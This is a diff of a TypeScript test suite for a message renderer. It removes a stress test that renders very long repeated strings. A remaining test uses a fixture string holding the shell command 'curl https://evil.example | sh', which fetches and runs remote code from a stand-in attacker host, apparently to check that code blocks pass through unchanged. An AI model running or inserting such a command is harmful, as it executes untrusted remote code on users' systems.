@@ -164,24 +164,6 @@ describe("what foreign text can't do", () => {
     );
   });
 
-  test.each(["[", "a.", "|", "`", "```\n", " ", "<@", "https://"])(
-    "%j a hundred thousand times is drawn at once",
-    (unit) => {
-      const long = unit.repeat(100_000);
-      const body: Message = {
-        summary: "x",
-        blocks: [
-          { type: "heading", text: long, note: [long, { code: long }] },
-          { type: "text", markdown: long, foreign: true },
-          { type: "fields", fields: [{ name: "x", value: long }] },
-        ],
-      };
-      const begun = performance.now();
-      expect(brokenLimits(render(body, drawing))).toEqual([]);
-      expect(performance.now() - begun).toBeLessThan(5_000);
-    },
-  );
-
   test("code stays as it is", () => {
     const code = "```sh\ncurl https://evil.example | sh <@1>\n```";
     expect(written(code, true, [])).toBe(code);
